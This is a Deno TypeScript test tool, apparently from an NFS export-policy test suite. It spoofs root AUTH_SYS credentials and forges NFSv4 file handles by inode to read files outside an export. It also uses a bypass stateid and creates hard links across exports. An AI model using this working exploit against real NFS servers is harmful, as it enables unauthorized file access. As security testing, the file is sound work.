// A hostile NFS client for the export policy tests: NFSv4.0 COMPOUNDs over TCP with AUTH_SYS uid 0
// from a privileged port (kernel nfsd's default `secure`), just enough to look a handle up by path,
// read through a handle, and forge one. Run inside the client's network namespace:
//   deno run -A --no-config nfs4_forge.ts <server> <export path> <file inside> <inode> [<inode>...]
//   deno run -A --no-config nfs4_forge.ts link <server> <export> <file inside> <other export>
// prints one JSON object: the legitimate read, then per inode the NFS status (0 = read, 70 =
// stale, 13 = access) of a read through a forged handle naming that inode, generation 0 (ext4
// skips the generation check for 0). Two forgeries per inode: the file's own handle with the inode
// swapped in, and the same without the parent directory part kernel nfsd adds under subtree_check.
import net from "node:net";

const OP = {
  GETFH: 10,
  LINK: 11,
  LOOKUP: 15,
  PUTFH: 22,
  PUTROOTFH: 24,
  READ: 25,
  SAVEFH: 32,
} as const;

class Xdr {
  bytes: number[] = [];
  u32(v: number): this {
    this.bytes.push((v >>> 24) & 255, (v >>> 16) & 255, (v >>> 8) & 255, v & 255);
    return this;
  }
  u64(v: bigint): this {
    return this.u32(Number(v >> 32n)).u32(Number(v & 0xffffffffn));
  }
  opaque(d: Uint8Array): this {
    this.u32(d.length).bytes.push(...d);
    while (this.bytes.length % 4) this.bytes.push(0);
    return this;
  }
  string(s: string): this {
    return this.opaque(new TextEncoder().encode(s));
  }
}

class Reader {
  #o = 0;
  constructor(private readonly d: Uint8Array) {}
  u32(): number {
    const v = new DataView(this.d.buffer, this.d.byteOffset).getUint32(this.#o);
    this.#o += 4;
    return v;
  }
  opaque(): Uint8Array {
    const n = this.u32();
    const v = this.d.slice(this.#o, this.#o + n);
    this.#o += (n + 3) & ~3;
    return v;
  }
}

export class Nfs4Client {
  #buf = new Uint8Array(0);
  #wake?: () => void;
  #xid = 1;
  private constructor(
    private readonly sock: net.Socket,
    private readonly who: { uid: number; gid: number },
  ) {
    sock.on("data", (d: Uint8Array) => {
      const n = new Uint8Array(this.#buf.length + d.length);
      n.set(this.#buf);
      n.set(d, this.#buf.length);
      this.#buf = n;
      this.#wake?.();
    });
  }

  /** AUTH_SYS as `who` (any uid and gid a client likes: the server takes its word), from a
   *  privileged port, or from any port (`privileged` false: what a user who is not root can do). */
  static async connect(
    host: string,
    who = { uid: 0, gid: 0 },
    privileged = true,
  ): Promise<Nfs4Client> {
    for (let port = 1023; port > 600; port--) {
      const sock = net.connect({ host, port: 2049, ...(privileged ? { localPort: port } : {}) });
      const error = await new Promise<(Error & { code?: string }) | undefined>((resolve) => {
        sock.once("connect", () => resolve(undefined));
        sock.once("error", resolve);
      });
      if (!error) return new Nfs4Client(sock, who);
      sock.destroy();
      if (error.code !== "EADDRINUSE") throw error;
    }
    throw new Error(`no privileged port free to reach ${host}:2049`);
  }

  close(): void {
    this.sock.destroy();
  }

  async #read(n: number): Promise<Uint8Array> {
    while (this.#buf.length < n) await new Promise<void>((r) => this.#wake = r);
    const out = this.#buf.slice(0, n);
    this.#buf = this.#buf.slice(n);
    return out;
  }

  /** One COMPOUND; returns the reader positioned at its first operation result. */
  async #compound(ops: (x: Xdr) => void, count: number): Promise<Reader> {
    const x = new Xdr().u32(this.#xid++).u32(0).u32(2).u32(100003).u32(4).u32(1);
    const { uid, gid } = this.who;
    const cred = new Xdr().u32(0).string("forger").u32(uid).u32(gid).u32(0); // no other groups
    x.u32(1).opaque(Uint8Array.from(cred.bytes)).u32(0).u32(0); // AUTH_SYS, null verifier
    x.string("").u32(0).u32(count); // tag, minor version 0
    ops(x);
    const body = Uint8Array.from(x.bytes);
    const record = new Xdr().u32(0x80000000 | body.length).bytes;
    await new Promise((r) => this.sock.write(Uint8Array.from([...record, ...body]), r));
    const parts: number[] = [];
    for (let last = false; !last;) {
      const h = new DataView((await this.#read(4)).buffer).getUint32(0);
      parts.push(...await this.#read(h & 0x7fffffff));
      last = (h & 0x80000000) !== 0;
    }
    const r = new Reader(Uint8Array.from(parts));
    r.u32(); // xid
    if (r.u32() !== 1 || r.u32() !== 0) throw new Error("RPC call not accepted");
    r.u32();
    r.opaque(); // verifier
    if (r.u32() !== 0) throw new Error("RPC call failed");
    r.u32(); // compound status (the failing op's, read below)
    r.opaque(); // tag
    r.u32(); // result count
    return r;
  }

  /** The handle of `path` (components from the NFSv4 root). */
  async lookup(path: string[]): Promise<Uint8Array> {
    const r = await this.#compound((x) => {
      x.u32(OP.PUTROOTFH);
      for (const c of path) x.u32(OP.LOOKUP).string(c);
      x.u32(OP.GETFH);
    }, path.length + 2);
    for (let i = 0; i < path.length + 2; i++) {
      const op = r.u32(), status = r.u32();
      if (status !== 0) throw new Error(`lookup /${path.join("/")}: op ${op} status ${status}`);
      if (op === OP.GETFH) return r.opaque();
    }
    throw new Error("no GETFH result");
  }

  /** LINK `name` in `dir` to `file` (SAVEFH the file, PUTFH the directory): the first failing
   *  operation's status, 0 when linked. */
  async linkStatus(file: Uint8Array, dir: Uint8Array, name: string): Promise<number> {
    const r = await this.#compound((x) => {
      x.u32(OP.PUTFH).opaque(file);
      x.u32(OP.SAVEFH);
      x.u32(OP.PUTFH).opaque(dir);
      x.u32(OP.LINK).string(name);
    }, 4);
    for (let i = 0; i < 4; i++) {
      r.u32(); // op
      const status = r.u32();
      if (status !== 0) return status;
    }
    return 0;
  }

  /** READ through `fh` with the all-ones stateid (READ bypass: allowed during the grace period,
   *  unlike the all-zeros one): the NFS status and, when 0, the data. */
  async read(fh: Uint8Array, count = 256): Promise<{ status: number; data?: string }> {
    const r = await this.#compound((x) => {
      x.u32(OP.PUTFH).opaque(fh);
      x.u32(OP.READ).u32(~0).u32(~0).u32(~0).u32(~0).u64(0n).u32(count);
    }, 2);
    for (let i = 0; i < 2; i++) {
      const op = r.u32(), status = r.u32();
      if (status !== 0) return { status };
      if (op === OP.READ) {
        r.u32(); // eof
        return { status, data: new TextDecoder().decode(r.opaque()) };
      }
    }
    return { status: -1 };
  }
}

/** Forged handles naming `ino` (generation 0), built from a file's genuine handle. Kernel nfsd
 *  (byte 0 = 1, byte 3 = fileid type): type 1 ends in ino+gen, type 2 (subtree_check) in
 *  ino+gen+parent ino+parent gen. ganesha VFS on ext4: the handle ends in ino+gen. */
export function forgedHandles(fileFh: Uint8Array, ino: number): Uint8Array[] {
  const knfsd = fileFh[0] === 1;
  const fidLen = knfsd && fileFh[3] === 2 ? 16 : 8;
  const put = (fh: Uint8Array, at: number) => {
    new DataView(fh.buffer).setUint32(at, ino, true);
    new DataView(fh.buffer).setUint32(at + 4, 0, true);
    return fh;
  };
  const withParent = put(fileFh.slice(), fileFh.length - fidLen);
  const noParent = put(fileFh.slice(0, fileFh.length - fidLen + 8), fileFh.length - fidLen);
  if (knfsd) noParent[3] = 1;
  return fidLen === 16 ? [withParent, noParent] : [withParent];
}

/** `link <server> <export> <file inside> <export of a directory>`: a hard link to the file, made
 *  in that directory, across the two exports; prints {"status": N} (0: linked). */
async function linkAcross(args: string[]): Promise<void> {
  const [server, fileExport, inside, dirExport] = args;
  const c = await Nfs4Client.connect(server);
  const path = (...p: string[]) => p.flatMap((x) => x.split("/")).filter(Boolean);
  try {
    const file = await c.lookup(path(fileExport, inside));
    const dir = await c.lookup(path(dirExport));
    console.log(JSON.stringify({ status: await c.linkStatus(file, dir, "linked-across") }));
  } finally {
    c.close();
  }
}

/** `as <uid>:<gid>[:any-port] <server> <export> <file inside>`: reads the file as that user and
 *  group (from any port: not root's); prints {"status": N, "data": …} (0: read). */
async function readAs(args: string[]): Promise<void> {
  const [who, server, exportPath, inside] = args;
  const [uid, gid] = who.split(":").map(Number);
  const c = await Nfs4Client.connect(server, { uid, gid }, !who.endsWith(":any-port"));
  try {
    const path = [...exportPath.split("/"), ...inside.split("/")].filter(Boolean);
    console.log(JSON.stringify(await c.read(await c.lookup(path))));
  } finally {
    c.close();
  }
}

if (import.meta.main && Deno.args[0] === "link") await linkAcross(Deno.args.slice(1));
else if (import.meta.main && Deno.args[0] === "as") await readAs(Deno.args.slice(1));
else if (import.meta.main) {
  const [server, exportPath, inside, ...inodes] = Deno.args;
  const c = await Nfs4Client.connect(server);
  try {
    const fh = await c.lookup([...exportPath.split("/"), ...inside.split("/")].filter(Boolean));
    const legit = await c.read(fh);
    const forged: Record<string, number[]> = {};
    for (const ino of inodes) {
      forged[ino] = [];
      for (const f of forgedHandles(fh, Number(ino))) forged[ino].push((await c.read(f)).status);
    }
    console.log(JSON.stringify({ legit, forged }));
  } finally {
    c.close();
  }
}
